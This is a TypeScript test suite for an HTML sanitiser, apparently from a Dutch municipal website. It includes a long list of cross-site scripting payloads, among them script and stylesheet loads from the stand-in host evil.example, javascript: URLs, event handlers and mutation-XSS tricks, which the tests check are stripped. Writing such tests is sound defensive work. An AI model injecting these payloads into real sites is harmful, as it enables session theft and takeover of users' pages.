import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { plainTextOf, safeAddress, sanitiseHtml } from './sanitise-html.ts'

/** Every way in that we know of, as an editor's paste or somebody's malice would bring it. */
const PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/x>alert(1)</script >',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<image src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>klik</text></a></svg>',
  '<svg><animate attributeName=href values=javascript:alert(1) /></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mi xlink:href="data:x,<script>alert(1)</script>">x</mi></math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe><img src=x onerror=alert(1)></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<applet code=x></applet>',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<style>@import "https://evil.example/x.css"</style>',
  '<style><img src="</style><img src=x onerror=alert(1)>">',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p onclick="alert(1)" class="x" id="app">x</p>',
  '<a href="javascript:alert(1)">klik</a>',
  '<a href="JaVaScRiPt:alert(1)">klik</a>',
  '<a href=" javascript:alert(1)">klik</a>',
  '<a href="java\nscript:alert(1)">klik</a>',
  '<a href="java&#x09;script:alert(1)">klik</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">klik</a>',
  '<a href="\u0001javascript:alert(1)">klik</a>',
  '<a href="vbscript:msgbox(1)">klik</a>',
  '<a href="data:text/html,<script>alert(1)</script>">klik</a>',
  '<a href="blob:https://evil.example/1">klik</a>',
  '<a href="//evil.example">klik</a>',
  '<a href="/api/sessie">klik</a>',
  '<a href="https://www.gemeente.nl@evil.example/">klik</a>',
  '<a href="https://goed.example" target="_top" ping="https://evil.example" onmouseover="alert(1)">klik</a>',
  '<form action="https://evil.example"><input name=bsn><button formaction="javascript:alert(1)">x</button></form>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><img src=x onerror=alert(1)></template>',
  '<title><img src=x onerror=alert(1)></title>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<noembed><img src=x onerror=alert(1)></noembed>',
  '<select><option><img src=x onerror=alert(1)></option></select>',
  '<details open ontoggle=alert(1)><summary onclick=alert(1)>x</summary></details>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<body onload=alert(1)>x</body>',
  '<table background="javascript:alert(1)"><tr><td colspan="1 onclick=alert(1)">x</td></tr></table>',
  '<td colspan=99999999>x</td>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
  '<p title="<img src=x onerror=alert(1)>">x</p>',
  '&lt;img src=x onerror=alert(1)&gt;',
  '&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;',
  '<<img src=x onerror=alert(1)>>',
  '<img src=x onerror=alert(1)//',
  '<a href="https://goed.example"><a href="javascript:alert(1)">x</a></a>',
  '<div><p><div><h1><script>alert(1)</script></h1></div></p></div>',
  `${'<div>'.repeat(500)}<img src=x onerror=alert(1)>`,
  '\u0000<script\u0000>alert(1)</script>',
]

const KEPT =
  /^(?:p|br|ul|ol|li|h2|h3|h4|h5|strong|em|a|table|caption|thead|tbody|tfoot|tr|th|td|blockquote|details|summary)$/
const PLAIN_ATTRIBUTE = / (?:colspan|rowspan)="[1-9]\d?"| scope="(?:col|row)"/g
const LINK_ATTRIBUTE = /^ href="(?:https?:\/\/|mailto:|tel:)[^"<>\s]*"$/

/** States what is true of safe HTML: every `<` begins a tag that may stay, with nothing in it but what may stay. */
function expectSafe(html: string): void {
  for (const [piece] of html.matchAll(/<[^>]*>?/g)) {
    const tag = /^<\/?(?<name>[a-z0-9]+)(?<attributes>[^<>]*?)(?: \/)?>$/.exec(piece)?.groups
    expect(tag, piece).toBeDefined()
    expect(tag?.['name'], piece).toMatch(KEPT)
    const rest = (tag?.['attributes'] ?? '').replaceAll(PLAIN_ATTRIBUTE, '')
    if (rest !== '') {
      expect(tag?.['name'], piece).toBe('a')
      expect(rest, piece).toMatch(LINK_ATTRIBUTE)
    }
  }
}

describe('HTML from outside', () => {
  it.each(PAYLOADS)('loses what runs, loads or leads astray: %j', (payload) => {
    for (const html of [
      payload,
      `<p>voor ${payload} na</p>`,
      `<table><tr><td>${payload}`,
      `<a href="${payload}">x</a>`,
    ]) {
      const clean = sanitiseHtml(html)
      expectSafe(clean)
      expect(sanitiseHtml(clean)).toBe(clean)
    }
  })

  it('stays safe and at rest however the pieces are put together', () => {
    const pieces = fc.constantFrom(
      ...PAYLOADS,
      ...['<p>', '</p>', '<div>', '</div>', '<ul>', '<li>', '</ul>', '<a href="https://goed.example">', '</a>'],
      ...[
        '<table>',
        '<td>',
        '</table>',
        '<h1>',
        '</h1>',
        '<b>',
        '</b>',
        '<!--',
        '-->',
        '"',
        "'",
        '<',
        '>',
        '&',
        'tekst',
      ],
    )
    fc.assert(
      fc.property(fc.array(pieces, { maxLength: 8 }), (parts) => {
        const clean = sanitiseHtml(parts.join(''))
        expectSafe(clean)
        expect(sanitiseHtml(clean)).toBe(clean)
      }),
      { numRuns: 300 },
    )
  })

  it.each([
    ['<p>Een <b>vet</b> en <i>schuin</i> woord.</p>', '<p>Een <strong>vet</strong> en <em>schuin</em> woord.</p>'],
    ['<h1>Kop</h1><h6>Kopje</h6>', '<h2>Kop</h2><h5>Kopje</h5>'],
    ['<div>een</div><div>twee</div>', '<p>een</p><p>twee</p>'],
    ['<div><p>een</p></div>', '<p>een</p>'],
    ['<p>&nbsp;</p><p>een</p>', '<p>een</p>'],
    ['<ul><li>een</li></ul>', '<ul><li>een</li></ul>'],
    ['a<br>b', 'a<br />b'],
    ['<a href="https://www.example.nl/x?a=1&amp;b=2">x</a>', '<a href="https://www.example.nl/x?a=1&amp;b=2">x</a>'],
    ['<a href="mailto:info@example.nl">x</a>', '<a href="mailto:info@example.nl">x</a>'],
    ['<a href="tel:14020">14 020</a>', '<a href="tel:14020">14 020</a>'],
    ['<a href="/x">tekst blijft</a>', 'tekst blijft'],
    ['<span class="x">tekst</span>', 'tekst'],
    ['<th scope="col" colspan="2">x</th>', '<th colspan="2" scope="col">x</th>'],
    ['5 < 6 & 7 > 3', '5 &lt; 6 &amp; 7 &gt; 3'],
  ])('keeps its structure: %j', (html, clean) => {
    expect(sanitiseHtml(html)).toBe(clean)
  })
})

describe('an address', () => {
  it.each([
    ['https://www.example.nl', 'https://www.example.nl/'],
    ['tel:14020', 'tel:14020'],
    ['ftp://example.nl', undefined],
    ['www.example.nl', undefined],
    ['', undefined],
    [undefined, undefined],
  ])('%j is followed as %j', (address, safe) => {
    expect(safeAddress(address)).toBe(safe)
  })
})

describe('the text of HTML', () => {
  it.each([
    ['<p>Een <strong>halve</strong>maan.</p><p>Twee</p>', 'Een halvemaan. Twee'],
    ['<ul><li>een</li><li>twee</li></ul>', 'een twee'],
    ['<a href="https://www.example.nl/">hier</a>.', 'hier.'],
    ['5 &lt; 6 &amp;amp; 7', '5 < 6 &amp; 7'],
    ['ge\u00ADmeente\u200B\u00A0 x', 'gemeente x'],
    ['', ''],
  ])('of %j is %j', (html, text) => {
    expect(plainTextOf(html)).toBe(text)
  })
})
